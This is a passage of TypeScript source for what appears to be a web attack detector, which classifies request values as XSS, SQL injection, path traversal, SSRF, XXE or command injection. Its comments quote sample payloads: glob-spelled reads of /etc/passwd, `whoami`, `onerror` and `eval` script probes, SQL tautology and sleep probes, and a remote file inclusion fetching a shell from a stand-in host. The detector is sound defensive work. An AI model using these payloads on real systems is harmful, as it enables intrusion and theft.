    // (twenty-first round) a vertical tab or a form feed: a blank to a parser, nothing to a filter that strips it; both are judged
    // (thirty-sixth round, review) what decoding made of the value's markup, for the whole of its judgement (a blank a parser reads and a
    // browser does not too); a value inside it inherits it
    const was = this.#markupDecoded
    const vtff = decoded.includes('\x0b') || decoded.includes('\x0c')
    this.#markupDecoded = was | markup | (vtff ? MADE_MARKUP | DECODED : 0)
    const found = vtff ? this.#judge(decoded.replace(VT_FF, ''), mode, key) | this.#judge(decoded.replace(VT_FF, ' '), mode, key) : this.#judge(decoded, mode, key, raw, rawApp, was)
    this.#markupDecoded = was
    // (fifty-first round) a reading that found the budget spent inside this value (`judgeClock`): the request is cut here
    if (judgeClock.passed) this.#cut = true
    if (found !== 0 && this.#hits !== undefined) {
      const part = this.#part
      this.#hits.push({ found, where: key === '' || part === 'path' || part.startsWith('header:') ? part : `${part}:${key.slice(0, 64)}`, value: decoded })
    }
    return found
  }

  /**
   * A value longer than JUDGE_WINDOW judged as text, window by window (each overlapping the one before, `windowStart`); past the time
   * budget the rest is not judged and the request is cut, as when its values run out of time.
   */
  #windows(decoded: string, mode: Mode, key: string, markupWas: number): number {
    let found = 0
    // (review) a Markdown fence opened before a window and not closed there: the window opens inside a code block, which it is told by
    // an opening fence of its own (read on its own, the block's closing fence opened one, and what came after it counted as code)
    let fences = 0
    for (let at = 0, end = 0, counted = 0; ; at = windowStart(decoded, end)) {
      end = Math.min(decoded.length, at + JUDGE_WINDOW)
      if (at > counted) {
        fences += countFences(decoded, counted, at)
        counted = at
      }
      const text = decoded.slice(at, end)
      found |= this.#judge(fences % 2 === 1 ? '```\n' + text : text, mode, key, undefined, 0, markupWas)
      if (end === decoded.length) return found
      if (this.#until !== Infinity && performance.now() >= this.#until) {
        this.#cut = true
        return found
      }
    }
  }

  /**
   * The classes one decoded value carries; `key` is the name it came under ("" when none); `raw`, the value as sent when known (`rawApp`:
   * what the application does to it first, which `appText` does); `markupWas`, what decoding made of the values it is inside.
   */
  #judge(decoded: string, mode: Mode, key: string, raw?: string, rawApp = 0, markupWas = this.#markupDecoded): number {
    if (decoded.length < 2) return 0
    // (thirty-sixth round, review) the exemptions that trust a tag's quotes, only where no decoding made them (`#markupDecoded`: read before
    // a value inside this one is judged)
    const literalMarkup = (this.#markupDecoded & MADE_MARKUP) === 0
    const asSent = this.#markupDecoded === 0
    const keyInfo = this.#keyInfo(key)
    // a value that is a command line on its own (`ipconfig /all`) needs none of the characters below
    const commandField = this.#inBody && (keyInfo & COMMAND_KEY) !== 0
    if (!suspicious(decoded) && !((keyInfo & FILE_KEY) !== 0 && decoded.length < 300 && (decoded.includes('/') || decoded.includes('.')))) {
      if ((mode === VALUE || mode === HEADER) && (keyInfo & URL_KEY) !== 0 && decoded.length < 80 && this.#url(decoded.toLowerCase(), key, keyInfo, mode) !== 0) return BIT.ssrf
      if ((mode === VALUE || mode === HEADER) && (keyInfo & REDIRECT_KEY) !== 0 && !this.#document && decoded.length < 300 && !mailRecipient(key, decoded) && (this.#redirect(decoded.toLowerCase(), decoded) || this.#appRedirect(decoded, raw, rawApp))) return BIT.open_redirect
      if (mode === PAGE_URL || this.#document || commandField || decoded.length > 200) return 0
      // a program by a path spelt with globs, with its arguments: /???/c?t /?tc/?as?wd
      // (also with `+` for its blanks: /?in/cat+/et?/passw?)
      if (decoded.charCodeAt(0) === 47 && decoded.includes('?') && (decoded.includes(' ') || decoded.includes('+'))) {
        const l = decoded.toLowerCase()
        return bareCommand(fold(l)) || (!l.includes(' ') && plusCommand(l)) ? BIT.rce : 0
      }
      // a recon program in cmd's delayed-expansion marks: !whoami!
      if (decoded.charCodeAt(0) === 33) return bareCommand(decoded.toLowerCase()) ? BIT.rce : 0
      // a program by its path in a system directory: /bin/ls -al
      if (decoded.charCodeAt(0) === 47 && mode !== PATH && decoded.includes('bin/')) return bareCommand(decoded.toLowerCase()) ? BIT.rce : 0
      return (mode !== PATH || decoded.includes(' ')) && maybeCommand(decoded) && plainCommand(decoded.toLowerCase()) ? BIT.rce : 0
    }
    // a JSON document given as a value (a webhook's `payload=`, a field holding a manifest) is read as one
    // (json22: with the blanks around it too, a file's last line break pasted or uploaded with it: `{…}\n`)
    const jsonText = this.#nested < 2 && decoded.length > 20 && (decoded.charCodeAt(decoded.length - 1) <= 32 || decoded.charCodeAt(0) <= 32) ? decoded.trim() : decoded
    if (this.#nested < 2 && jsonText.length > 20 && (jsonText.charCodeAt(0) === 123 || jsonText.charCodeAt(0) === 91)) {
      // not JSON (or nested past the ceiling): a value like any other
      const doc = this.#valueDocument(jsonText)
      if (doc !== undefined) {
        // (forty-third round) the JSON text as the application parses it, where decoding the whole changed it (a notebook's `&nbsp;` in a
        // table of contents, sent as a field): its strings then judged each as decoded on its own, not all as markup the text's decoding
        // made — an entity inside one of them is still decoded, and judged as made, when that string is. (Review) Only where both texts
        // parse — an entity that made a quote breaks the decoded one, which is then read whole as before — and where no escape the parse
        // would resolve makes markup (`'\u0027',alert(1),'\u0027'` is one string to a script shown the text as sent), nor one the
        // application's percent-decoding leaves (`%u0027`)
        const app = raw !== undefined && raw !== decoded ? appView(raw, rawApp) : undefined
        const asApp = app !== undefined && !hidesMadeMarkup(app, (rawApp & APP_PERCENT) !== 0 ? raw : undefined) ? this.#valueDocument(app) : undefined
        if (asApp === undefined) return this.#json(doc, jsonText)
        const keep = this.#markupDecoded
        this.#markupDecoded = markupWas
        const found = this.#json(asApp, app)
        this.#markupDecoded = keep
        return found
      }
    }
    // an XML document given as a value is read as one too, its texts and attributes each a value
    const xmlFound = this.#nested < 2 && decoded.length > 20 && decoded.charCodeAt(0) === 60 && decoded.startsWith('<?xml') && decoded.trimEnd().endsWith('>') ? this.#xmlValue(decoded) : 0
    // and a query string given as a value (a scanner's whole query, `submit=1&docpath=../`), each of its
    // values under its own name
    const queryFound = this.#nested < 2 && !this.#document && mode !== PAGE_URL && decoded.length < 1000 && decoded.includes('=') && QUERY_VALUE.test(decoded) ? this.#queryValue(decoded) : 0
    // past JUDGE_WINDOW, the text in windows, the time budget read between them (a JSON or an XML document's members were read above)
    if (decoded.length > JUDGE_WINDOW) return xmlFound | queryFound | this.#windows(decoded, mode, key, markupWas)
    // (the value lower-cased as it came, before the readings below narrow it: a router rule is read on it whole)
    const lowered = decoded.toLowerCase()
    let v = lowered
    let c = charFlags(v)
    let found = 0
    // a Markdown document's code spans and blocks, and code quoted in prose, are quoted text (a
    // renderer escapes them, no shell or database runs them): each class judges what is outside them
    // (nineteenth round: a line whose backticks do not pair into spans as Markdown writes them — a span opening or closing on
    // a blank, one left open — quotes MySQL names, `1\`=\`1\` AND ELT(…) AND \`1\`=\`1`, not code)
    // (twenty-third round: not spans glued by a dot, `` `echo a`.`echo $((1+2))` ``, PHP's and Perl's concatenation of commands' output;
    // MySQL's qualified names, `` `user`.`name` ``, are no commands' output)
    if ((c & C_BACKTICK) !== 0 && v.length > 30 && ((c & C_BREAK) !== 0 || !mysqlNames(v)) && !(v.includes('`.`') && dotJoinedCommands(v))) {
      const outside = outsideCode(v)
      // (json22: or a table's, its header row then its delimiter row: a notebook cell's table of ``ps`` and ``cat()``)
      if (outside !== v && (DOCUMENT.test(v) || PROSE.test(outside) || ((c & C_PIPE) !== 0 && TABLE_START.test(v)))) {
        v = outside
        c = charFlags(v)
      }
    }
    // a Markdown page (a heading, a list, front matter): its component scripts, escaped brackets and embeds
    // are the page's own, and its template tags its site generator's
    // (twenty-fifth round: not a program whose comment lines open on `# `, a Python module's or a shell script's: its shebang,
    // imports, definitions or a shell's closing words say which it is)
    const markdownish = (c & C_BREAK) !== 0 && v.length > 30 && (MARKDOWN_START.test(v) || DOCUMENT.test(v))
    // (review: nor a value shaped as a JSON document, `{…}` or `[…]`, that did not parse — Python's `NaN`, nesting past the walk: its `},` lines are no program's)
    const programLike = (c & C_BREAK) !== 0 && v.length > 60 && (!markdownish || CODE_SIGNS.test(v)) && !jsonShaped(v) && program(v)
    const markdown = markdownish && !programLike
    // (twenty-fifth round) and its indented code blocks, as its fences' (`\t<script src="dist/x.min.js"></script>` after a blank line: a README's usage)
    // (a page that opens as one: a heading or front matter; a script whose comment lines open on `# ` is none)
    if (markdown && (v.includes('\n\t') || v.includes('\n    ')) && MARKDOWN_START.test(v)) {
      const w = withoutIndentedCode(v)
      if (w !== v) {
        v = w
        c = charFlags(v)
      }
    }
    // a program's comment lines are text about it (`#   <script src="/foo.js">` in a Ruby doc comment), its
    // first line's too (thirteenth round: a Go doc comment naming `<frame>`; the program then starts on its code)
    const code = !markdown && programLike
    if (code && (v.includes('#') || v.includes('//') || v.includes('/*'))) {
      // (fortieth round) and the block comment that opens it, a C file's licence header (`/*⏎htop - Meter.c⏎(C) 2004 …⏎*/`)
      let w = v.replace(COMMENT_LINE, (m) => (m.charCodeAt(0) === 10 ? '\n' : '')).replace(BLOCK_COMMENT, '')
      if (w.length < v.length && w.charCodeAt(0) !== v.charCodeAt(0)) w = w.trimStart()
      if (w !== v) {
        v = w
        c = charFlags(v)
      }
    }
    if ((c & (C_LT | C_BREAK)) === (C_LT | C_BREAK) && v.includes('<script')) {
      const w = withoutComponentScripts(v)
      if (w !== v) {
        v = w
        c = charFlags(v)
      }
    }
    if (markdown && (c & C_LT) !== 0 && (v.includes('\\<') || v.includes('<iframe'))) {
      v = v.replace(MARKDOWN_ESCAPED_LT, ' ').replace(EMBED, embedOutsideTags)
      c = charFlags(v)
    }
    // (twelfth round) a JSX handler that only names or defines a function calls nothing (`onSubmit={this.submit}`,
    // `onClick={() => …}`); a program's multi-line string literals are the page it writes, and its function
    // bodies call its own sinks: markup outside them still counts
    let xv = v
    if ((c & C_BRACE) !== 0 && v.includes('={')) xv = xv.replace(JSX_HANDLER, 'jsx-')
    if (code && (v.includes('@"') || v.includes('"""') || v.includes("'''") || (c & C_BACKTICK) !== 0)) xv = xv.replace(MULTILINE_LITERALS, '""')
    // (thirteenth round) and its `<` right after a name opens a type's arguments or compares (`Result<Frame<Self::Data>>`, `i<frames`): no tag
    if (code && (c & C_LT) !== 0) xv = xv.replace(TYPE_ARGUMENTS, ' \u2039')
    // (thirty-second round) and a component's script cut from its file closes on a line of its own at the value's end: nothing after it to break out into
    // (sixtieth round, the spent hundred-and-forty-second part's: or in a script's tail too short to read as a program, `defineProps({…});⏎</script>`,
    // where that closing tag is the value's first markup: what it closes is not the value's, and nothing follows it)
    // (review, Chromium: there with nothing after it, not a style block — `x⏎</script>⏎<style>body{background:url(//…)}` fetched —, and not
    // in a value holding `<!--` or a script of its own, which keep a script open past a `</script>`)
    if ((c & C_LT) !== 0 && xv.includes('</script>')) {
      if (code) xv = xv.replace(TRAILING_SCRIPT_CLOSE, '')
      else if ((c & C_BREAK) !== 0 && xv.startsWith('</script>', xv.indexOf('<')) && !v.includes('<!--') && !v.includes('<script')) xv = xv.replace(TRAILING_CLOSE_ALONE, '')
    }
    if (code && (c & C_LT) !== 0 && xv.includes('</script>') && !lowered.includes('<script')) xv = xv.replace(TRAILING_PAGE_CLOSE, '')
    // (forty-second round's review) the value as the application has it, where decoding made markup: read where the text as sent decides
    const sent = !literalMarkup && raw !== undefined && (c & C_LT) !== 0 ? appText(raw, rawApp) : undefined
    if ((c & C_LT) !== 0 && xv.includes('<svg')) xv = inertIcons(xv, literalMarkup ? undefined : sent ?? null)
    const svgData = (c & C_COLON) !== 0 && xv.includes('svg+xml;base64,')
    if (svgData) xv = inertSvgData(xv, decoded)
    if (literalMarkup && (c & C_LT) !== 0 && xv.includes('<link') && xv.includes('this.')) xv = xv.replace(ASYNC_STYLE, ' ')
    if ((c & C_LT) !== 0 && xv.includes('javascript:')) xv = xv.replace(NO_OP_LINK, 'href=""')
    // (thirty-fifth round) and such a URL as a whole value (a design system's example link, `"url": "javascript:void(0)"`)
    else if ((c & C_COLON) !== 0 && xv.length <= 40 && NO_OP_URL.test(xv)) xv = ''
    if (literalMarkup && (c & (C_LT | C_PAREN)) === (C_LT | C_PAREN) && xv.includes('on')) xv = xv.replace(OWN_FUNCTION_HANDLER, 'data-on=""')
    if (literalMarkup && (c & C_LT) !== 0 && (xv.includes('return') || xv.includes('preventdefault'))) xv = xv.replace(NO_OP_HANDLER, 'data-on=""')
    if (literalMarkup && (c & C_LT) !== 0 && xv.includes('on')) xv = xv.replace(NAME_HANDLER, 'data-on=""')
    // the value as a template's page, judged once for both readings that need it (undefined: not asked yet)
    let page: TemplatePage | null | undefined
    // (fifty-second round) a template page's inert markup, its tags on two lines at least and none reaching anything: an empty SVG element
    // a script draws into (src/insight/page-markup.ts; its scripts and handlers are judged as any markup's)
    if ((c & (C_LT | C_BREAK)) === (C_LT | C_BREAK) && xv.includes('<svg') && (xv.includes('{{') || xv.includes('{%') || xv.includes('<%'))) {
      page = templatePage(v)
      if (page !== null && page.lines && !page.reaches) xv = inertPageMarkup(xv)
    }
    if ((c & C_LT) !== 0 && xv.includes('<script')) {
      if (page === undefined && (xv.includes('{{') || xv.includes('{%'))) page = templatePage(v)
      if (literalMarkup && page != null && !TEMPLATE_BINDING.test(xv)) xv = xv.replace(TEMPLATE_SCRIPT_SRC, ' ')
      if (literalMarkup && xv.includes('json')) xv = xv.replace(DATA_SCRIPT, ' ')
      if (literalMarkup && xv.includes('mathjax.hub.config')) xv = xv.replace(MATHJAX_CONFIG, ' ')
      if (literalMarkup && this.#cutValue && xv.includes('mathjax.hub.config')) xv = xv.replace(MATHJAX_CUT, ' ')
      if (asSent && xv.includes('//')) xv = xv.replace(PROVIDER_SCRIPT, ' ')
    }
    if ((c & C_LT) !== 0 && xv.includes('<iframe') && xv.includes('//')) {
      if (asSent) xv = xv.replace(VIDEO_EMBED, ' ')
      // (forty-third round) or as the text as sent has it, where decoding changed the value (a map's place name, `%20` in its URL): each
      // player as sent, decoded as the value was, taken out of the value
      else if (raw !== undefined) {
        const asApp = sent ?? appText(raw, rawApp)
        if (asApp.includes('<iframe')) xv = embedsAsSent(xv, asApp)
      }
    }
    if (literalMarkup && (c & C_LT) !== 0 && xv.includes('fonts.googleapis.com') && xv.includes('<style')) xv = xv.replace(STYLE_ELEMENT, fontImports)
    // (sixty-first round, the spent hundred-and-forty-sixth part's Vue blocks) a preprocessor's block importing its partial from the same site,
    // no extension (`<style lang="scss">@import './internal/language-names';`): read as the `.scss` file the preprocessor names (a plain
    // style block's extensionless import is still read, thirty-third round)
    if ((c & C_LT) !== 0 && xv.includes('@import') && xv.includes('lang')) xv = xv.replace(PREPROCESSOR_STYLE, preprocessorImports)
    // and in several lines of text, a command-line usage's placeholder in a string of its own (`.argument('<script>')`) is no element
    if ((c & (C_LT | C_BREAK)) === (C_LT | C_BREAK)) xv = xv.replace(TAG_PLACEHOLDER, "''")
    if ((c & C_LT) !== 0 && (xv.includes(' tag') || xv.includes(' element'))) xv = xv.replace(TAG_NAMED, ' a-tag ')
    const xss = code ? XSS_MARKUP : XSS
    // (forty-third round's review) Python's keyword argument on a line of its own handed a language model's `prompt`
    if ((c & C_BREAK) !== 0 && xv.includes('prompt')) xv = xv.replace(PROMPT_ARGUMENT, '=prompt_')
    // (forty-second round's third review) a handler inside a tag as sent, where decoding made a `>` before it (`<img src=x &gt;
    // onerror=…>`: no tag's end to a browser, which reads the handler as the tag's own)
    if (sent !== undefined && sent.includes('&') && sent.includes('<') && tagHandler(sent)) found |= BIT.xss
    if ((c & (C_LT | C_QUOTE | C_COLON | C_PAREN | C_BRACE | C_PLUS | C_BRACKET | C_EQ)) !== 0 && GATE.xss.test(xv) && (anyOf(xss, xv) || (!markdown && (c & C_LT) !== 0 && DANGLING.test(xv) && !cutPage(xv)) || (URL_BLANK.test(xv) && !xv.includes('javascript:') && anyOf(xss, xv.replace(QUOTE_BLANKS, '$1 ').replace(URL_BLANKS, ''))) || ((xv.includes('/*') || xv.includes('\\')) && cssHidden(xv, xss, (c & C_PAREN) !== 0)))) found |= BIT.xss
    // (nineteenth round) a script's string literals joined to spell a sink (`eval('ale'+'rt(0)')`, `location='javascript:ale'+'rt(12)'`),
    // and markup loading from an out-of-band or canary host (`<img src="https://x.oast.example.net/…">`): not in a program's source
    // (twenty-third round: and the Function constructor handed the joined code, `Set.constructor('ale'+'rt(13)')()`)
    if ((found & BIT.xss) === 0 && !code && (c & (C_PLUS | C_QUOTE)) === (C_PLUS | C_QUOTE) && JOINED_LITERALS.test(xv)) {
      const joined = xv.replace(JOINED_LITERALS_ALL, '')
      if (anyOf(XSS, joined) || obfuscatedScript(joined, charFlags(joined))) found |= BIT.xss
    }
    if ((found & BIT.xss) === 0 && !code && (c & C_LT) !== 0 && oobMarkup(xv)) found |= BIT.xss
    if ((found & BIT.xss) === 0 && svgData && activeSvgData(decoded)) found |= BIT.xss
    // script spelt to slip past a filter (eleventh round; `obfuscatedScript` below)
    if ((found & BIT.xss) === 0 && (c & (C_WIDE | C_BSL | C_LT | C_BRACKET | C_PAREN | C_BACKTICK)) !== 0 && obfuscatedScript(xv, c)) found |= BIT.xss
    if ((c & C_LT) !== 0) {
      // a link whose target hides where it goes: <a href="http://0x42.0x66.0x7.0x93/">  <a href="http://a.example@b">
      if ((found & BIT.xss) === 0 && v.includes('href')) {
        const link = LINK.exec(URL_BLANK.test(v) ? v.replace(URL_BLANKS, '') : v)
        if (link !== null && (link[1]!.includes('@') || obfuscatedAddress(hostOf(link[1]!.replace(/:\d{1,5}$/, ''))))) found |= BIT.xss
      }
      if ((v.includes('<!') || v.includes('xi:')) && (anyOf(XXE, v) || plusBlanksXxe(v))) found |= BIT.xxe
      if ((v.includes('<!--') || v.includes('<esi:')) && SSI.test(v)) found |= BIT.ssi
    }
    if ((c & C_DOLLAR) !== 0 && v.includes('${') && (jndiLookup(v) || (v.includes('base64:') && jndiLookup(decoded)))) found |= BIT.jndi
    // a document's SQL statements (a report's query, an ETL step) and a whole SQL program (a schema, a
    // stored procedure) are data; injections still count (thirty-fourth round, review: and a statement probing a delay, a file, a
    // command or a tautology is no report's query, `select pg_sleep(5) as "x"`)
    // (forty-second round) a program's own call of a function only SQL has, assigned to a name on a line of its own and handed only the
    // program's names (`state_dict = load_file(output_file)`, a notebook's Python that imported safetensors' `load_file`; `delay =
    // sleep(self.interval)`): another function to the SQL reading. Not after a `,`, a quote or `(` ending the line before (review: an
    // UPDATE's SET list, `', name = sleep(utc_time), bio = '`), not with SQL's own values for names (`utc_time`, `current_time`)
    const ownCalls = (c & C_EQ) !== 0 && OWN_SQL_CALL_GATE.test(v) ? v.replace(OWN_SQL_CALL, '$1_own') : v
    // (fifty-ninth round's review) keywords split by a filter's characters joined before the gates too (`1' o<>r 1=1#`, `1 un\ion sel\ect
    // 1,2`: the gates had read the split words)
    const qv = joinedKeywords(ownCalls)
    if ((c & (C_QUOTE | C_RPAREN | C_EQ | C_PAREN | C_AT | C_HASH | C_SEMI | C_DASH | C_COMMA | C_STAR | C_PLUS | C_BREAK | C_WIDE)) !== 0 || v.includes(' ') || v.includes('\t')) {
      if ((((c & (C_QUOTE | C_RPAREN | C_WIDE)) !== 0 && (GATE.sqli.test(qv) || DOUBLED_KEYWORD.test(qv))) || GATE.sqliWords.test(qv) || ((c & C_SEMI) !== 0 && STACKED_CUT.test(v)) || ((c & C_EQ) !== 0 && ((c & C_PAREN) !== 0 || v.includes('when')) && SELF_COMPARE.test(v)) || ((c & C_STAR) !== 0 && v.includes('/*')) || ((c & C_PLUS) !== 0 && !v.includes(' ') && GATE.sqliWords.test(v.replace(PLUS_ALL, ' ')))) && !(this.#document && sqlStatement(v) && !statementProbes(v) && !statementBreaksOut(v)) && !(decoded.includes('(`') && routerRule(lowered)) && !((c & (C_BREAK | C_SEMI)) !== 0 && sqlProgram(v)) && !(commandField && commandLine(v) && !statementBreaksOut(v))) {
        // (thirty-second round) in a program's source, a repository's query in its annotation (Spring Data's `@Query("select a from
        // Account a where a.id = :id")`) is the program's own: no quote, `;`, comment or line break in it to break out with
        // (review: its content a statement that is no injection by itself, not `@Query(" OR 1=1 OR ")`)
        // (fortieth round) in a document, one word in quotes as the whole value (Quasar's component API, `"default": "'div'"`): a probe alone
        // (`'' div ''`, `'' or ''`: valid SQL where another word is an error), as the probes below are judged outside documents only
        const wordInDocument = this.#document && (c & C_QUOTE) !== 0 && QUOTED_ONE_WORD.test(v)
        // (fifty-second round: in any value, not only one read as a program's source — an annotation over one declaration, Room's
        // `@Query("DELETE FROM tasks WHERE …")⏎fun delete…`, is too short to be read as one, and its content is judged alone either way)
        if (!wordInDocument && sqlValue(qv.includes('@') ? qv.replace(ANNOTATED_QUERY, (m) => (sqlValue(m.slice(m.indexOf('"') + 1, -1)) ? m : '@query("")')) : qv, (c & C_BREAK) !== 0 && PROSE.test(v))) found |= BIT.sqli
        // a URL given as a value, its query carrying the injection: https://a/product.php?id=10 AND 1=2
        else if (v.includes('?') && v.includes('=') && queryInjection(v)) found |= BIT.sqli
      }
      if ((found & BIT.sqli) !== 0 && dashedQuotation(v)) found &= ~BIT.sqli
    }
    // (nineteenth round) a value that only compares constants or names a catalog table (`1=1`, `0 > -1`, `INFORMATION_SCHEMA.COLUMNS`)
    // (review of the nineteenth round: not arithmetic in a value, `1 < 2`, `10 > 5`: two different unsigned numbers compared)
    if ((found & BIT.sqli) === 0 && v.length <= 100 && mode !== PAGE_URL && !this.#document && sqlProbeAlone(v) && !(mode === VALUE && arithmeticComparison(v))) found |= BIT.sqli
    // a document (a configuration, a manifest) names its own files and commands: only climbing out
    // and system files count there
    if ((c & (C_DOT | C_SLASH | C_BSL | C_COLON | C_NUL)) !== 0 && GATE.traversal.test(v)) {
      // escaped slashes and dots (.\/\.\.\/) are a path's too (twenty-fifth round: a Windows climb, `..\..\settings.py`, is judged as written as well)
      let path = (c & C_BSL) !== 0 && (v.includes('\\/') || v.includes('\\.')) ? v.replace(ESCAPED_PATH, '$1') : v
      // a climb whose slashes lost their percent sign to a filter (`..2fetc2fpasswd`, `..5c..5cwin.ini`): read as slashes
      if (v.startsWith('..2f') || v.startsWith('..5c')) path = v.replace(PERCENTLESS_SLASH, '/')
      // (fifty-seventh round, the spent hundred-and-thirty-fifth part's miss) a path's `.` segments, which every file system drops
      // (`/./etc/./passwd`, as a file URL's are, DOT_SEGMENTS): the file named without them
      if (path.includes('/.') || path.includes('\\.')) path = path.replace(DOT_SEGMENTS, '')
      // (fifty-ninth round, the spent hundred-and-thirty-ninth part's miss) and the `./` before a climb (`./../config/database.php`): the
      // same climb to the same file
      if (path.charCodeAt(0) === 46 && DOT_BEFORE_CLIMB.test(path)) path = path.replace(DOT_BEFORE_CLIMB, '')
      // (json22) or a tool's by its keys, or a climb to a glob pattern in a body (`"include": ["../../__typings__/**\/*.d.ts"]`)
      const configuration = (this.#inBody && (key === 'extends' || this.#toolConfig || ((c & C_STAR) !== 0 && GLOB_CLIMB.test(path)))) || this.#nestedObjects()
      // (twelfth round) a program's source climbs to its own files (`path.join(__dirname, '../../logs/x.log')`):
      // only system files named count there
      // (json22) and a configuration's command line (a monorepo package's script, `… dotenv_config_path="../../.env"`) is a program: only system files named count there
      const judges = configuration ? (commandField && commandLine(v) ? SYSTEM_FILES : SYSTEM_CLIMBING) : code ? SYSTEM_FILES : this.#document ? CLIMBING : TRAVERSAL
      // (twenty-sixth round) a text of several lines (release notes, a README, a ticket) naming a system file inside one of its
      // sentences (`copies of /etc/passwd and /etc/group,`, `in the /etc/passwd file`) is about the file: no parameter that opens
      // a file is handed a sentence. Climbing to it still counts there.
      let whole = v
      // (thirty-second round: and a sentence of one line, as long, a setting's description in a translation file; or in a language written
      // without Latin letters)
      // (review: the new forms not under a key that names a file, `files=report.pdf, notes, /etc/shadow, …`)
      if (!code && !configuration && v.length > 80 && (path.includes('/etc/') || path.includes('/proc/')) && (((c & C_BREAK) !== 0 && PROSE.test(v)) || ((keyInfo & FILE_KEY) === 0 && !FILES_KEY.test(key) && (PROSE.test(v) || NON_LATIN_PROSE.test(v)))) && SENTENCE_SYSTEM_FILE.test(path)) {
        path = path.replace(SENTENCE_SYSTEM_FILES, ' a-file ')
        whole = v.replace(SENTENCE_SYSTEM_FILES, ' a-file ')
      }
      // (a configuration's climb to a directory, `"path": "../../"`, is its own; to a server's file it is not)
      if (!(path.includes(';') && WINDOWS_PATH_LIST.test(path)) && (anyOf(judges, path) || (path !== whole && anyOf(judges, whole)) || (!code && raw !== undefined && OVERLONG_SENT.test(raw) && OVERLONG_CLIMB.test(raw)) || (mode !== PAGE_URL && mode !== PATH && !this.#document && !configuration && !code && (LONE_CLIMB.test(path) || (path.includes('..') && (keyInfo & REDIRECT_KEY) === 0 && (climbsAbove(path, true) || (path !== v && climbsAbove(v, true)) || ((keyInfo & FILE_KEY) !== 0 && climbsAbove(path, false)))))) || (!this.#document && !configuration && !code && CLIMB_SEPARATOR.test(path)) || (mode !== PATH && mode !== PAGE_URL && !this.#document && ((ABSOLUTE_PATH.test(path) && !(commandField && PROGRAM_FILE.test(path)) && !DRIVE_DOCUMENT.test(path) && !PROGRAM_DIRECTORIES.test(path)) || ((keyInfo & FILE_KEY) !== 0 && (SERVER_FILE.test(path) || (path !== v && SERVER_FILE.test(v))) && (!configuration || SERVER_EXTENSION.test(path)) && !ASSET_CLIMB.test(path) && !(key === 'module' && BUILT_MODULE_CLIMB.test(path)) && !PLACEHOLDER_PATH.test(path)) || (!configuration && !code && (CLIMB_TO_SERVER_FILE.test(path) || (path !== v && CLIMB_TO_SERVER_FILE.test(v)))) || ((keyInfo & FILE_KEY) !== 0 && RELATIVE_SYSTEM_PATH.test(path)))))) found |= BIT.path_traversal
    }
    // (twenty-ninth round) a remote file handed to a parameter that names a file, its URL ending on an empty query or a NUL that cuts
    // off what the application appends (`page=http://evil.example/shell.txt?`, `config[path]=http://10.0.0.5:8080/x?`): a remote
    // file inclusion, the traversal's remote twin
    if ((keyInfo & FILE_KEY) !== 0 && (c & C_COLON) !== 0 && mode !== PATH && mode !== PAGE_URL && !this.#document && REMOTE_INCLUSION.test(v) && (INCLUDED_FILE_KEY.test(key) || INCLUDED_SCRIPT.test(v))) found |= BIT.path_traversal
    // (json22: in a document too — a cloud template's boot script, `UserData` opening on `#!/bin/bash`, is a whole program)
    // (thirty-ninth round, after the forty-third part's measurement: or a Dockerfile, its `RUN` lines its build's own command lines)
    const wholeProgram = (c & C_BREAK) !== 0 && shellProgram(v)
    // (fortieth round, review) a build file's injection on its first line is judged on its first instruction's line (a Dockerfile's) or its
    // first line make reads as data (a Makefile's)
    const buildFileHead = (c & C_BREAK) !== 0 && !wholeProgram ? (dockerfile(decoded) ?? makefile(decoded)) : null
    // (forty-first round) and a PowerShell script's (Scoop's commands, a module's functions): its lines are its own, only a download run at
    // once, a reverse shell's socket or an encoded command (POWERSHELL_ATTACK) and an injection on its first line count there
    const psScript = (c & C_BREAK) !== 0 && !wholeProgram && buildFileHead === null && powershellProgram(v)
    const shellScript = wholeProgram || buildFileHead !== null || psScript
    // a Markdown document's tables are text (a page of aliases and the commands they stand for): the
    // shell judges what is outside their rows, whose `|` are the cells' borders
    let sv = markdown && (c & C_PIPE) !== 0 && TABLE_DELIMITER.test(v) ? withoutTableRows(v) : v
    // (sixtieth round, the spent hundred-and-forty-fourth part's Markdown) the working directory's substitution as a path's part, a
    // container's volume as documentation writes it (`docker run -v $(pwd):/app …`): `pwd` prints the shell's own directory, nothing
    // more — for the shell's reading only, an absolute path standing in for it (what runs around it is read as before: `a $(pwd) b;id`,
    // `sudo $(pwd)/../../bin/sh -c id`)
    if (sv.includes('$(pwd)')) sv = sv.replace(PWD_IN_PATH, '/pwd')
    // (forty-second round) and its display math (`$$⏎ {\rm sgn}(\alpha) := … &{\rm if}\; \alpha \geq 0 ⏎$$`, a notebook's Markdown cell):
    // LaTeX the page's math renderer typesets, as its code blocks are quoted text — for the shell's reading only (a renderer without math
    // shows what is between the `$$` as the page's own markup, which the page's readings still judge)
    if (markdown && (c & C_DOLLAR) !== 0 && sv.includes('$$')) sv = sv.replace(DISPLAY_MATH, ' ')
    // (forty-third round) and its comments on lines of their own (`<!--⏎$ tree -L 1 ./pkg/printers/ | grep -v test⏎-->`, a note to the
    // page's editors): no renderer shows them, and for the shell they are quoted text as its code blocks are — the page's other readings
    // still judge them, where a browser's comment parsing matters
    if (markdown && sv.includes('<!--')) sv = sv.replace(MARKDOWN_COMMENT, (comment) => (PROGRAM_ATTACK.test(comment) || COMMENT_FETCHES.test(comment) ? comment : ' '))
    // (twenty-sixth round) and a text table's, in any text of several lines
    if ((c & (C_PIPE | C_BREAK)) === (C_PIPE | C_BREAK) && TEXT_TABLE_DELIMITER.test(sv)) sv = sv.replace(TEXT_TABLE_ROW, (row) => (textTableCommand(row) ? row : ''))
    // (twenty-ninth round) a User-Agent's comments after its product (`Mozilla/5.0 (Linux; U; Android 2.2.1; id; AD350 Build/…)`,
    // `(Linux; Android 4.0.4; Cat Tablet Galactica 9.7CA Build/IMM76D)`, `(iPhone10,1; iOS 11.2; gzip)`): lists of a platform's,
    // a locale's and a device's names, no command line; an item holding a shell's sign or a program that reports alone
    // (`whoami`, `uname`) is still read
    if (this.#inAgent && this.#nested === 0 && (c & C_SEMI) !== 0 && PRODUCT_FIRST.test(sv)) sv = sv.replace(AGENT_COMMENT, (comment) => (comment.slice(1, -1).split(';').every(agentItem) ? '(agent)' : comment))
    // (twelfth round) a script's regular expression literals (`var re = /^(Eval|Type)Error$/;`) are patterns:
    // their `|` and `(` are alternation, not the shell's
    if ((c & (C_BREAK | C_PIPE)) === (C_BREAK | C_PIPE) && sv.includes('=') && DECLARATION.test(sv)) sv = sv.replace(REGEX_LITERAL, '/re/')
    // (forty-second round) a Rust macro's repetitions of one metavariable (`$($body)*`, `$($elems:expr,)*`, `$($key:tt)+`, serde_json's
